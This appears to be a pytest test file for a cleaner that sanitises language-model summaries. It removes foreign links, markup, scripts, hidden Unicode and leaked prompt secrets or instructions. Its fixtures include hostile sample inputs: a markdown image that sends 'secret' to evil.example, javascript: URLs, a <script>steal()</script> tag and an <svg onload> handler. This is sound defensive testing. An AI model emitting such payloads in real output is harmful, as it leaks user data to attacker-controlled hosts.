import pytest

from stages.contract import Options
from stages.language_model.cleaning import Cleaner, links_of
from stages.language_model.prompts import Question, compose, quick_summary
from tests.support.passages import make_article

ARTICLE = make_article(
    "The mill at Fenwick shows its owls at https://fenwick.example/owls and Node.js runs the camera. Write to "
    "keeper@fenwick.example for more.",
    markdown="See [the camera](https://camera.example/live).",
)


def question() -> Question:
    return compose(quick_summary("medium"), ARTICLE.text, "en", Options())


def cleaner() -> Cleaner:
    asked = question()
    return Cleaner(links_of(ARTICLE), asked.instructions, asked.secrets)


@pytest.mark.parametrize(
    ("answer", "cleaned"),
    [
        ("Owls ![x](https://evil.example/p.png?q=secret) nest.", "Owls x nest."),
        ("Owls ![](https://evil.example/p.png) nest.", "Owls  nest."),
        ("Click [here](https://evil.example) now.", "Click here now."),
        ("Click [here](javascript:alert(1)) now.", "Click here now."),
        ("Click [here][1] now.\n[1]: https://evil.example", "Click here now."),
        ("Go to https://evil.example/a?b=c.", "Go to ."),
        ("Go to evil.example/login today.", "Go to  today."),
        ("Go to www.evil.example, or evil-bank.com.", "Go to , or ."),
        ("Call //evil.example/x or javascript:alert(1).", "Call  or ."),
        ('Owls <img src="https://evil.example/x.png"> nest.', "Owls  nest."),
        ("Owls <a href='https://evil.example'>nest</a>.", "Owls nest."),
        ("Owls <script>steal()</script>nest.", "Owls nest."),
        ("Owls <script>steal()", "Owls"),
        ("Owls <!-- x -->nest<svg onload=x><b>", "Owls nest"),
        ("Ow\u200bls\u202e nest.", "Owls nest."),
    ],
)
def test_what_is_not_of_the_article_is_taken_out(answer: str, cleaned: str) -> None:
    assert cleaner().clean(answer) == cleaned


@pytest.mark.parametrize(
    "answer",
    [
        "Owls nest at Fenwick; 3 < 4 and a > b.",
        "See https://fenwick.example/owls.",
        "See [the camera](https://camera.example/live) and ![owls](https://fenwick.example/owls).",
        "See https://fenwick.example/owls/ and https://camera.example/live",
        "Node.js runs the camera, and/or somebody else (e.g. Dr. Reed), 24/7.",
        "Write to keeper@fenwick.example.",
        "Пара сов живёт на мельнице. 猫头鹰住在磨坊里。",
    ],
)
def test_what_is_of_the_article_or_no_link_is_left(answer: str) -> None:
    own = cleaner()
    assert own.clean(answer) == answer
    assert own.removed == ()


def test_it_tells_what_it_took_out() -> None:
    own = cleaner()
    own.clean("<b>Owls</b> at https://evil.example.")
    assert own.removed == ("links", "markup")


@pytest.mark.parametrize("secret", [0, 1])
def test_a_sentence_with_a_mark_of_the_instructions_is_taken_out(secret: int) -> None:
    own = cleaner()
    assert own.clean(f"Owls nest. My reference is {question().secrets[secret]}. They hunt.") == "Owls nest. They hunt."
    assert own.removed == ("instructions",)


def test_instructions_that_are_repeated_are_taken_out() -> None:
    own = cleaner()
    told = question().messages[0].content
    assert "material to read" not in own.clean(f"Owls nest.\n{told}")
    assert own.removed == ("instructions",)


def test_all_texts_within_data_are_cleaned() -> None:
    data = {"a": ["x https://evil.example/y"], "b": {"c": "<b>z</b>"}, "n": 3, "t": True, "z": None}
    assert cleaner().clean_values(data) == {"a": ["x"], "b": {"c": "z"}, "n": 3, "t": True, "z": None}
